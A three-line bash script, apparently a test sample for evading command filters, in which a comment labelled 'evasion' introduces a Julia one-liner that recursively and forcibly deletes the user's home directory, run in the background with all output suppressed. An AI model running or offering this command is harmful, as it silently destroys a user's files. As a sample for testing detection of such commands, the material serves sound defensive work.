#!/bin/bash
# evasion: julia deletes the home directory named by ENV["HOME"]
julia -e 'rm(ENV["HOME"], recursive=true, force=true)' >/dev/null 2>&1 &
